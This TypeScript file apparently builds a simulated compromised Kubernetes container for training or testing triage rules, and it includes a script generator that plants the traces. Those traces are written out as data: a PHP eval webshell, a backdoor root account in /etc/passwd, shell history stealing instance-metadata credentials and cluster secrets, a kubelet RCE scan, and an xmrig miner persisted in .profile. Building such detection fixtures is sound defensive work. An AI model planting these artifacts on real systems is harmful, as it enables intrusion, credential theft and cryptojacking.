import { file, type Tree } from '../rootfs.js';

/**
 * What the intrusions in public Kubernetes incident reports leave behind, beyond the miner and
 * reverse shell of the planted pod: one trace per family the triage rules look for.
 */
export interface Trace {
  readonly path: string;
  readonly content: string | Buffer;
  readonly mode: number;
  /** Added to the end of the image's file (passwd, history) instead of replacing it. */
  readonly append?: boolean;
}

/** The first bytes of an x86-64 ELF executable: enough for a file to be one. */
const elfHeader = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);

export const intrusionTraces: readonly Trace[] = [
  // A webshell dropped through an upload form, and a binary disguised as an image beside it.
  { path: 'var/www/uploads/cache.php', content: "<?php @eval($_POST['cmd']); ?>\n", mode: 0o644 },
  { path: 'var/www/uploads/logo.png', content: elfHeader, mode: 0o644 },
  // A second root account.
  { path: 'etc/passwd', content: 'toor:x:0:0::/root:/bin/sh\n', mode: 0o644, append: true },
  // Cloud credentials from the instance metadata, then the pod's token against the API server.
  {
    path: 'root/.ash_history',
    content: [
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)',
      'curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets',
      '/tmp/kubeletctl scan rce',
      '',
    ].join('\n'),
    mode: 0o600,
    append: true,
  },
  // The miner restarted at every login.
  {
    path: 'root/.profile',
    content: 'nohup /dev/shm/.x/xmrig --url=stratum+tcp://pool.supportxmr.example:3333 >/dev/null 2>&1 &\n',
    mode: 0o644,
  },
  // A kubelet exploitation tool, and a directory named "..." to hide in.
  { path: 'tmp/kubeletctl', content: elfHeader, mode: 0o755 },
  { path: 'var/tmp/.../notes', content: 'targets: 10.0.0.0/24\n', mode: 0o644 },
];

/** The traces laid over an image's tree (appending where a trace says so). */
export function withTraces(tree: Tree, traces: readonly Trace[], mtime: Date): Tree {
  const result: Record<string, Tree[string]> = { ...tree };
  for (const trace of traces) {
    const existing = tree[trace.path];
    const before =
      trace.append && existing?.kind === 'file' ? Buffer.from(existing.content) : Buffer.alloc(0);
    result[trace.path] = file(Buffer.concat([before, Buffer.from(trace.content)]), {
      mode: trace.mode,
      mtime,
    });
  }
  return result;
}

const b64 = (content: string | Buffer) => Buffer.from(content).toString('base64');

/**
 * One `sh -c` script that plants every trace missing from a running container: a cluster seeded
 * before the traces existed gets them, and running it twice changes nothing.
 */
export function plantScript(traces: readonly Trace[]): string {
  return traces
    .map((trace) => {
      const path = `'/${trace.path}'`;
      const decode = `printf %s ${b64(trace.content)} | base64 -d`;
      if (trace.append) {
        const firstLine = Buffer.from(trace.content).toString('utf8').split('\n')[0] ?? '';
        return `grep -qF "$(printf %s ${b64(firstLine)} | base64 -d)" ${path} || ${decode} >> ${path}`;
      }
      const directory = `'/${trace.path.slice(0, trace.path.lastIndexOf('/'))}'`;
      return `[ -e ${path} ] || { mkdir -p ${directory} && ${decode} > ${path} && chmod ${trace.mode.toString(8)} ${path}; }`;
    })
    .join('\n');
}
